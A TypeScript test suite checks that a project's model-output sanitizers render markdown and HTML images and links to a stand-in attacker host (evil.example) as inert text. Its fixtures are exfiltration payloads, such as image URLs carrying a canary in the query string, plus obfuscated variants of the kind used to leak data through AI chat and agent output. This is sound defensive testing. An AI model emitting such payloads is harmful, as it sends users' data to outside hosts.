import fc from 'fast-check';
import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { modelText } from '../../src/core/messages/format.ts';
import { quietText } from '../../src/core/outgoing-text.ts';

const MAX = 60_000;
const HOST = 'evil.example';

function page(markdown: string): string {
  return marked.parse(markdown, { async: false, gfm: true });
}

/** What a browser asks for by itself, and where a click leads. */
const fetched = (html: string) =>
  /<(?:img|image|picture|source|svg|video|audio)\b/i.test(html.replace(/<code>[\s\S]*?<\/code>/g, ''));
const led = (html: string) => new RegExp(`href="[^"]*(?:${HOST}|//)`, 'i').test(html);

describe('an image', () => {
  it.each([
    `![data](https://${HOST}/?q=canary)`,
    `![data][ref]\n\n[ref]: https://${HOST}/?q=canary`,
    `![ref]\n\n[ref]: <https://${HOST}/?q=canary>`,
    `[![data](https://${HOST}/a)](https://${HOST}/b)`,
    `\\![data](https://${HOST}/a) ![x](//${HOST}/b)`,
    `> - ![data](https://${HOST}/a "title")`,
    `| a |\n|---|\n| ![data](https://${HOST}/a) |`,
    `<img src="https://${HOST}/a">`,
    `<IMG\nsrc=https://${HOST}/a>`,
    `<picture><source srcset="https://${HOST}/a"></picture>`,
    `<p><video poster="https://${HOST}/a"></video></p>`,
    `\`unclosed ![data](https://${HOST}/a)`,
    `<div>\n\`\`\`\n![data](https://${HOST}/a)\n\`\`\`\n</div>`,
  ])('is shown as text: %j', (markdown) => {
    expect(fetched(page(markdown)) || /^[<`]/.test(markdown)).toBe(true);
    expect(fetched(page(quietText(markdown, MAX)))).toBe(false);
    expect(fetched(page(modelText(markdown, MAX)))).toBe(false);
  });

  it('stays as it was written in code', () => {
    const code = `\`![a](b)\`\n\n\`\`\`md\n![a](https://${HOST}/b) <img src="x">\n\`\`\``;

    expect(quietText(code, MAX)).toBe(code);
    expect(modelText(code, MAX)).toBe(code);
  });
});

describe('a link of an agent', () => {
  it.each([
    `[the docs](https://${HOST}/?q=canary)`,
    `[the docs](<https://${HOST}/a b>)`,
    `[the docs]( https://${HOST}/ "title")`,
    `[the docs](//${HOST}/a)`,
    `[the docs](HTTPS://${HOST}/a)`,
    `[the docs][1]\n\n[1]: https://${HOST}/a`,
    `[1]\n\n[1]:\nhttps://${HOST}/a`,
    `https://${HOST}/a`,
    `<https://${HOST}/a>`,
    `www.${HOST}/a`,
    `**https://${HOST}/a**`,
    `<a href="https://${HOST}/a">the docs</a>`,
    `ftp://${HOST}/a`,
  ])('to another host shows where it leads, and leads nowhere: %j', (markdown) => {
    const html = page(quietText(modelText(markdown, MAX), MAX));

    expect(led(html)).toBe(false);
    expect(html).toContain(HOST);
  });

  it.each([
    '[the rule](https://github.com/org/repo/blob/main/README.md#rule)',
    'See https://github.com/org/repo/issues/7.',
    '[a file](docs/reviews.md) and [a place](#place)',
    'a // comment, and 3 // 2',
  ])('on GitHub stays as it is: %j', (markdown) => {
    expect(modelText(markdown, MAX)).toBe(markdown);
  });

  it('is neither followed nor fetched whatever stands around it', () => {
    const bits = [
      '!',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '`',
      '\\',
      '\n',
      ' ',
      'x',
      '"',
      '&',
      ':',
      '|',
      '*',
      '\n\n',
      '1. ',
      '> ',
    ];
    const address = fc.constantFrom(`https://${HOST}/?q=1`, `http://${HOST}`, `//${HOST}/`, `www.${HOST}`);
    const text = fc.array(
      fc.oneof(fc.constantFrom(...bits), address, fc.constant('![x](https://evil.example)')),
      {
        maxLength: 24,
      },
    );

    fc.assert(
      fc.property(text, (parts) => {
        const html = page(quietText(modelText(parts.join(''), MAX), MAX));
        const outside = html.replace(/<(code|pre)>[\s\S]*?<\/\1>/g, '');
        expect(outside).not.toMatch(/<img\b/i);
        expect(outside).not.toMatch(/href="(?:https?:)?\/\//i);
      }),
      { numRuns: 3_000 },
    );
  });
});
